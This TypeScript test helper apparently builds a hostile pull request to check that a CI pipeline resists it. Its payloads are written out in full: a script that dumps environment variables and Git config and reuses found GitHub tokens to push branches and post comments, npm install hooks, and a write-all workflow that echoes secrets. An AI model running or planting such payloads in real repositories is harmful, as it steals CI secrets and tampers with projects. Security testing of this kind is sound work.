import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { runWell } from "./shell.ts";
import { writeManifests } from "./tool-in-repository.ts";

/** What a hostile program says where it runs. */
export const marks = { tool: "HOSTILE TOOL RAN", script: "HOSTILE SCRIPT RAN" } as const;

/**
 * A program that shows all that it finds, and tries every token that it finds: to push a branch, and to write a comment.
 * Plain CommonJS, since it stands in a repository of somebody else.
 */
const tries = `
const { spawnSync } = require("node:child_process");
const { readFileSync } = require("node:fs");
const { env } = process;
for (const [name, value] of Object.entries(env)) console.log("FOUND " + name + "=" + value);
try { console.log("FOUND .git/config " + readFileSync(".git/config", "utf8")); } catch {}
try { console.log("FOUND event " + readFileSync(env.GITHUB_EVENT_PATH, "utf8")); } catch {}
const tokens = new Set(Object.values(env).filter((value) => /^ghs_/.test(value)));
const host = new URL(env.GITHUB_SERVER_URL).host;
const number = JSON.parse(readFileSync(env.GITHUB_EVENT_PATH, "utf8")).number;
(async () => {
  for (const token of tokens) {
    const url = "http://x-access-token:" + token + "@" + host + "/" + env.GITHUB_REPOSITORY;
    const pushed = spawnSync("git", ["push", url, "HEAD:refs/heads/hostile"], { encoding: "utf8" });
    console.log("PUSH " + (pushed.status === 0 ? "DONE" : "REFUSED"));
    const address = env.GITHUB_API_URL + "/repos/" + env.GITHUB_REPOSITORY + "/issues/" + number + "/comments";
    const headers = { authorization: "Bearer " + token, "content-type": "application/json" };
    const answer = await fetch(address, { method: "POST", headers, body: JSON.stringify({ body: "hostile" }) });
    console.log("COMMENT " + answer.status);
  }
  console.log("TRIED " + tokens.size);
})();
`;

/** In place of the tool: says that it ran, tries everything, and leaves a plan that the comment is to be made from. */
const tool = `#!/usr/bin/env node
console.log(${JSON.stringify(marks.tool)});
const { appendFileSync, writeFileSync } = require("node:fs");
const at = process.argv.indexOf("--out");
if (at !== -1) writeFileSync(process.argv[at + 1], '{ "format": "wxcards.plan/1", "hostile": true }');
appendFileSync(process.env.GITHUB_OUTPUT, "comment=true\\n");
${tries}`;

/** A workflow that asks for everything: rights, secrets, and the environment that somebody has to approve. */
const workflow = `name: hostile
on: pull_request
permissions: write-all
jobs:
  environment:
    runs-on: ubuntu-latest
    environment: wxcards
    steps:
      - run: echo "$SECRET"
        env: { SECRET: "\${{ secrets.WXCARDS_COFFEE_APPSECRET }}" }
  bare:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd
      - run: node hostile/tries.cjs
        env:
          SECRET: "\${{ secrets.WXCARDS_COFFEE_APPSECRET }}"
          PROXY: "\${{ secrets.WXCARDS_HTTPS_PROXY }}"
          TOKEN: "\${{ github.token }}"
      # Without the flag of the other workflows, so that the trap is seen to work.
      - run: npm ci
`;

/** The script that npm is to run: it leaves its mark on the page of the run, since npm shows nothing of it. */
const script = `node -e "fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, '${marks.script}')"`;

/** Changes everything in a clone that a pull request could bring: the tool, what npm runs, and a workflow. */
export async function makeHostile(folder: string, env: Readonly<Record<string, string>>): Promise<void> {
  const staged = join(folder, "package");
  const scripts = { preinstall: script, install: script, postinstall: script };
  const manifest = { name: "wxcards", version: "0.1.0", bin: { wxcards: "dist/wxcards.cjs" }, scripts };
  const files = {
    "package/package.json": JSON.stringify(manifest),
    "package/dist/wxcards.cjs": tool,
    "hostile/tries.cjs": tries,
    ".npmrc": "ignore-scripts=false\n",
    ".github/workflows/wxcards-drift.yml": workflow,
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  await runWell(["tar", "-czf", "vendor/wxcards-0.1.0.tgz", "package"], { folder, env });
  rmSync(staged, { recursive: true });
  writeManifests(folder, "wxcards-0.1.0.tgz", { scripts });
}
